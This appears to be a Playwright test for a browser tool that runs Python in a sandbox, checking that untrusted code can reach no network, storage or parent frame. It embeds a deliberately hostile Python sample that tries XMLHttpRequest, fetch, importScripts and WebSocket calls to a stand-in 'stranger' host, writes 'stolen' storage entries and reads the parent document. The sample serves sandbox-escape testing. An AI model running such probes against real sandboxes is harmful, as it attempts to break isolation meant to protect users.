// Python in the page is hostile until proved otherwise: it must reach no network, no storage, no parent. The program below
// looks harmless to the compiler; its module level tries every way out and then raises, saying which one worked.
import { createServer } from "node:net";
import { encodeLink } from "../compiler-core/serialization/link.ts";
import { heldUp, watchMainThread } from "./main-thread.ts";
import { expect, test } from "./studio.ts";

/** A server on loopback that counts who comes: a wall has to hold against what would have answered. */
async function trap(): Promise<{ readonly port: number; readonly visits: () => number; readonly close: () => void }> {
  let visits = 0;
  const server = createServer((socket) => {
    visits++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.address();
  return {
    port: typeof address === "object" && address ? address.port : 0,
    visits: () => visits,
    close: () => server.close(),
  };
}

const hostile = (origin: string, stranger: string) => `import numpy as np
import js

reached = []
opened = js.XMLHttpRequest.new()
opened.open("GET", "${origin}/python/frame.js", False)
js.fetch("${origin}/python/frame.js")
outside = js.XMLHttpRequest.new()
outside.open("GET", "${stranger}/", False)
js.fetch("${stranger}/")
actions = {
    "XMLHttpRequest": lambda: opened.send(),
    "XMLHttpRequest to a stranger": lambda: outside.send(),
    "importScripts": lambda: js.importScripts("${origin}/python/worker.js"),
    "importScripts from a stranger": lambda: js.importScripts("${stranger}/x.js"),
    "WebSocket": lambda: js.WebSocket.new("${origin.replace("http", "ws")}/socket").send("x"),
    "indexedDB": lambda: js.indexedDB.open("stolen"),
    "localStorage": lambda: js.localStorage.setItem("stolen", "x"),
    "sessionStorage": lambda: js.sessionStorage.setItem("stolen", "x"),
    "parent": lambda: js.parent.document,
    "document": lambda: js.document.title,
    "Worker": lambda: js.Worker.new("${origin}/python/worker.js"),
}
for name, action in actions.items():
    try:
        action()
        reached.append(name)
    except BaseException:
        pass
raise RuntimeError("reached: " + ", ".join(reached) + ".")


def harmless(A):
    A[:] = A + 1.0


def initialize(N):
    return (np.zeros((N,)),)


presets = {"S": {"N": 3}}
`;

test("hostile Python reaches nothing", async ({ studio, browser }) => {
  const context = await browser.newContext();
  const page = await context.newPage();
  const mainThread = await watchMainThread(page);
  const stranger = await trap();
  const text = hostile(studio.origin, `http://127.0.0.1:${stranger.port}`);
  const link = encodeLink({
    format: 1,
    madeBy: "a stranger",
    program: { name: "harmless", text },
    sizes: { N: 3 },
    steps: [],
  });
  await page.goto(`${studio.origin}/${link}`);
  await expect(page.getByTestId("python")).toHaveText(/NumPy \d/, { timeout: 90_000 });
  // A request that the policy stops is announced and then fails; one that got out has an answer.
  const answered: string[] = [];
  page.on("response", (response) => answered.push(response.url()));
  page.on("websocket", (socket) => answered.push(socket.url()));
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await expect(page.getByTestId("run-failure")).toContainText("reached: .", { timeout: 60_000 });
  expect(answered.filter((url) => !url.startsWith("blob:"))).toEqual([]);
  expect(stranger.visits()).toBe(0);
  stranger.close();
  const kept = await page.evaluate(async () => ({
    local: localStorage.getItem("stolen"),
    databases: (await indexedDB.databases()).map((d) => d.name),
  }));
  expect(kept.local).toBeNull();
  expect(kept.databases).not.toContain("stolen");
  expect(await heldUp(mainThread)).toEqual([]);
  await context.close();
});
